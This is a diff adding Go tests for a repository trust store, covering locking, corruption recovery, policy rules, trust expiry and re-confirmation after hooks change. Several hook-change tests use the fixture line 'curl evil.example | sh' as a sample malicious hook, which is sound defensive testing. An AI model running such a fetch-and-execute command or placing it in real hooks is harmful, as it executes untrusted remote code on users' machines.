@@ -0,0 +1,301 @@
+package trust
+
+import (
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestTrustRepo_ConcurrentUpdates(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+
+	const n = 20
+	var wg sync.WaitGroup
+	for i := 0; i < n; i++ {
+		wg.Add(1)
+		go func(i int) {
+			defer wg.Done()
+			assert.NoError(t, TrustRepo(fmt.Sprintf("/repo/%d", i), fmt.Sprintf("/repo/%d", i)))
+		}(i)
+	}
+	wg.Wait()
+
+	store, err := LoadStore()
+	require.NoError(t, err)
+	assert.Len(t, store.Trusted, n, "no update should be lost")
+}
+
+func TestSaveStore_LeavesNoTempFiles(t *testing.T) {
+	configHome := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", configHome)
+
+	require.NoError(t, TrustRepo("/repo", "/repo"))
+	require.NoError(t, UntrustRepo("/repo"))
+
+	entries, err := os.ReadDir(filepath.Join(configHome, "sprout"))
+	require.NoError(t, err)
+	var names []string
+	for _, e := range entries {
+		names = append(names, e.Name())
+	}
+	assert.ElementsMatch(t, []string{"trusted-projects.json", "trusted-projects.json.lock"}, names)
+}
+
+func TestLoadStore_RecoversFromCorruption(t *testing.T) {
+	configHome := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", configHome)
+
+	storePath, err := GetStorePath()
+	require.NoError(t, err)
+	require.NoError(t, os.WriteFile(storePath, []byte("{not json"), 0644))
+
+	store, err := LoadStore()
+	require.NoError(t, err)
+	assert.Empty(t, store.Trusted)
+
+	backups, err := filepath.Glob(storePath + ".corrupt-*")
+	require.NoError(t, err)
+	require.Len(t, backups, 1)
+	data, err := os.ReadFile(backups[0])
+	require.NoError(t, err)
+	assert.Equal(t, "{not json", string(data), "backup should preserve original contents")
+
+	// Store is usable again after recovery
+	require.NoError(t, TrustRepo("/repo", "/repo"))
+	trusted, err := IsRepoTrusted("/repo", "/repo")
+	require.NoError(t, err)
+	assert.True(t, trusted)
+}
+
+func TestLoadStore_RecoversOnlyUnderLock(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+
+	storePath, err := GetStorePath()
+	require.NoError(t, err)
+	require.NoError(t, os.MkdirAll(filepath.Dir(storePath), 0755))
+	require.NoError(t, os.WriteFile(storePath, []byte(`{"version": 1, "trusted": [`), 0644))
+
+	// A writer holds the lock while the store is half written
+	unlock, err := lockPath(storePath + ".lock")
+	require.NoError(t, err)
+
+	loaded := make(chan *Store, 1)
+	go func() {
+		store, err := LoadStore()
+		assert.NoError(t, err)
+		loaded <- store
+	}()
+	select {
+	case <-loaded:
+		t.Fatal("LoadStore recovered the store while another process held its lock")
+	case <-time.After(100 * time.Millisecond):
+	}
+
+	require.NoError(t, writeFileAtomic(storePath, []byte(`{"version": 1, "trusted": [{"repo_root": "/repo"}]}`), 0644))
+	unlock()
+
+	store := <-loaded
+	require.Len(t, store.Trusted, 1, "the store written meanwhile is read again, not reset")
+	backups, err := filepath.Glob(storePath + ".corrupt-*")
+	require.NoError(t, err)
+	assert.Empty(t, backups)
+}
+
+func TestPolicyEvaluate(t *testing.T) {
+	policy := &Policy{
+		TrustedRemotes: []string{"github.com/mycompany/*"},
+		DeniedRemotes:  []string{"github.com/mycompany/sandbox-*"},
+	}
+
+	assert.Equal(t, PolicyAllow, policy.Evaluate("github.com/mycompany/app"))
+	assert.Equal(t, PolicyDeny, policy.Evaluate("github.com/mycompany/sandbox-1"), "deny wins over allow")
+	assert.Equal(t, PolicyNone, policy.Evaluate("github.com/other/app"))
+	assert.Equal(t, PolicyNone, policy.Evaluate(""))
+	assert.Equal(t, PolicyNone, (*Policy)(nil).Evaluate("github.com/mycompany/app"))
+
+	disabled := &Policy{DisableHooks: true, TrustedRemotes: []string{"*"}}
+	assert.Equal(t, PolicyDeny, disabled.Evaluate("github.com/mycompany/app"))
+	assert.Equal(t, PolicyDeny, disabled.Evaluate(""))
+}
+
+func TestIsRepoTrusted_PolicyDisablesHooks(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	policyPath := filepath.Join(t.TempDir(), "policy.yml")
+	require.NoError(t, os.WriteFile(policyPath, []byte("disable_hooks: true\n"), 0644))
+	t.Setenv("SPROUT_POLICY_FILE", policyPath)
+
+	require.NoError(t, TrustRepo("/repo", "/repo"))
+
+	trusted, err := IsRepoTrusted("/repo", "/repo")
+	assert.ErrorIs(t, err, ErrDeniedByPolicy, "policy is evaluated before the trust store")
+	assert.False(t, trusted)
+}
+
+func TestLoadPolicy_InvalidPattern(t *testing.T) {
+	policyPath := filepath.Join(t.TempDir(), "policy.yml")
+	require.NoError(t, os.WriteFile(policyPath, []byte("trusted_remotes:\n  - \"github.com/[\"\n"), 0644))
+	t.Setenv("SPROUT_POLICY_FILE", policyPath)
+
+	_, err := LoadPolicy()
+	assert.Error(t, err)
+}
+
+func TestIsRepoTrusted_Expiry(t *testing.T) {
+	configHome := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", configHome)
+	require.NoError(t, os.MkdirAll(filepath.Join(configHome, "sprout"), 0755))
+	require.NoError(t, os.WriteFile(filepath.Join(configHome, "sprout", "config.yml"), []byte("trust_ttl: 30d\n"), 0644))
+
+	require.NoError(t, SaveStore(&Store{Version: 1, Trusted: []TrustedProject{
+		{RepoRoot: "/fresh", TrustedAt: time.Now().Add(-24 * time.Hour)},
+		{RepoRoot: "/stale", TrustedAt: time.Now().Add(-31 * 24 * time.Hour)},
+	}}))
+
+	trusted, err := IsRepoTrusted("/fresh", "/fresh")
+	require.NoError(t, err)
+	assert.True(t, trusted)
+
+	trusted, err = IsRepoTrusted("/stale", "/stale")
+	require.NoError(t, err)
+	assert.False(t, trusted, "trust older than trust_ttl should require re-confirmation")
+
+	// Re-trusting renews the timestamp
+	require.NoError(t, TrustRepo("/stale", "/stale"))
+	trusted, err = IsRepoTrusted("/stale", "/stale")
+	require.NoError(t, err)
+	assert.True(t, trusted)
+
+	store, err := LoadStore()
+	require.NoError(t, err)
+	assert.Len(t, store.Trusted, 2, "renewal should not duplicate entries")
+}
+
+func TestIsRepoTrusted_HooksChanged(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	repo := t.TempDir()
+	writeHooks := func(hooks string) {
+		require.NoError(t, os.WriteFile(filepath.Join(repo, ".sprout.yml"), []byte("hooks:\n"+hooks), 0644))
+	}
+
+	writeHooks("  on_create:\n    - npm ci\n")
+	require.NoError(t, TrustRepo(repo, repo))
+	project, _, err := FindTrustedProject(repo)
+	require.NoError(t, err)
+	assert.Equal(t, map[string][]string{"on_create": {"npm ci"}}, project.Hooks)
+
+	writeHooks("  on_create:\n    - npm ci\n  output: quiet\n")
+	trusted, err := IsRepoTrusted(repo, repo)
+	require.NoError(t, err)
+	assert.True(t, trusted, "only the commands count")
+
+	writeHooks("  on_create:\n    - npm ci\n    - curl evil.example | sh\n")
+	trusted, err = IsRepoTrusted(repo, repo)
+	require.NoError(t, err)
+	assert.False(t, trusted, "changed hooks should require re-confirmation")
+
+	require.NoError(t, TrustRepo(repo, repo))
+	trusted, err = IsRepoTrusted(repo, repo)
+	require.NoError(t, err)
+	assert.True(t, trusted)
+
+	// Entries from before hooks were recorded trust the hooks found first
+	require.NoError(t, SaveStore(&Store{Version: 1, Trusted: []TrustedProject{{RepoRoot: repo, TrustedAt: time.Now()}}}))
+	trusted, err = IsRepoTrusted(repo, repo)
+	require.NoError(t, err)
+	assert.True(t, trusted)
+	project, _, err = FindTrustedProject(repo)
+	require.NoError(t, err)
+	assert.NotEmpty(t, project.HooksHash, "the hooks are recorded")
+
+	writeHooks("  on_create:\n    - curl evil.example | sh\n")
+	trusted, err = IsRepoTrusted(repo, repo)
+	require.NoError(t, err)
+	assert.False(t, trusted, "and changing them requires re-confirmation")
+}
+
+func TestIsRepoTrusted_WorktreeHooks(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	repo, worktree := t.TempDir(), t.TempDir()
+	hooks := []byte("hooks:\n  on_create:\n    - npm ci\n")
+	require.NoError(t, os.WriteFile(filepath.Join(repo, ".sprout.yml"), hooks, 0644))
+	require.NoError(t, TrustRepo(repo, repo))
+
+	trusted, err := IsRepoTrusted(repo, worktree)
+	require.NoError(t, err)
+	assert.True(t, trusted, "a worktree without .sprout.yml runs the main worktree's hooks")
+
+	require.NoError(t, os.WriteFile(filepath.Join(worktree, ".sprout.yml"), hooks, 0644))
+	trusted, err = IsRepoTrusted(repo, worktree)
+	require.NoError(t, err)
+	assert.True(t, trusted, "the same hooks")
+
+	require.NoError(t, os.WriteFile(filepath.Join(worktree, ".sprout.yml"), []byte("hooks:\n  on_create:\n    - curl evil.example | sh\n"), 0644))
+	trusted, err = IsRepoTrusted(repo, worktree)
+	require.NoError(t, err)
+	assert.False(t, trusted, "a branch that changes the hooks needs trust for them")
+
+	require.NoError(t, TrustRepo(repo, worktree))
+	trusted, err = IsRepoTrusted(repo, worktree)
+	require.NoError(t, err)
+	assert.True(t, trusted)
+}
+
+func TestIsRepoTrusted_RemoteIdentityAsksAgain(t *testing.T) {
+	configHome := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", configHome)
+	configPath := filepath.Join(configHome, "sprout", "config.yml")
+	require.NoError(t, os.MkdirAll(filepath.Dir(configPath), 0755))
+
+	oldRoot := filepath.Join(t.TempDir(), "app")
+	require.NoError(t, os.MkdirAll(oldRoot, 0755))
+	for _, args := range [][]string{
+		{"init", "--quiet"},
+		{"remote", "add", "origin", "git@github.com:mycompany/app.git"},
+	} {
+		out, err := exec.Command("git", append([]string{"-C", oldRoot}, args...)...).CombinedOutput()
+		require.NoError(t, err, string(out))
+	}
+
+	require.NoError(t, TrustRepo(oldRoot, oldRoot))
+	project, found, err := FindTrustedProject(oldRoot)
+	require.NoError(t, err)
+	require.True(t, found)
+	assert.Equal(t, "github.com/mycompany/app", project.Remote)
+
+	newRoot := filepath.Join(t.TempDir(), "app")
+	require.NoError(t, os.Rename(oldRoot, newRoot))
+
+	trusted, err := IsRepoTrusted(newRoot, newRoot)
+	require.NoError(t, err)
+	assert.False(t, trusted, "path identity should not follow a moved repository")
+
+	require.NoError(t, os.WriteFile(configPath, []byte("repo_identity: remote\n"), 0644))
+
+	project, found, err = FindTrustedProject(newRoot)
+	require.NoError(t, err)
+	require.True(t, found, "remote identity should find the entry by origin URL")
+	assert.Equal(t, oldRoot, project.RepoRoot)
+	trusted, err = IsRepoTrusted(newRoot, newRoot)
+	require.NoError(t, err)
+	assert.False(t, trusted, "any clone can claim the origin, so it has to be trusted by path")
+
+	require.NoError(t, TrustRepo(newRoot, newRoot))
+	trusted, err = IsRepoTrusted(newRoot, newRoot)
+	require.NoError(t, err)
+	assert.True(t, trusted)
+	store, err := LoadStore()
+	require.NoError(t, err)
+	assert.Len(t, store.Trusted, 2, "the other clone keeps its own entry")
+
+	require.NoError(t, UntrustRepo(newRoot))
+	_, found, err = FindTrustedProject(oldRoot)
+	require.NoError(t, err)
+	assert.True(t, found, "untrusting one clone leaves the other")
+}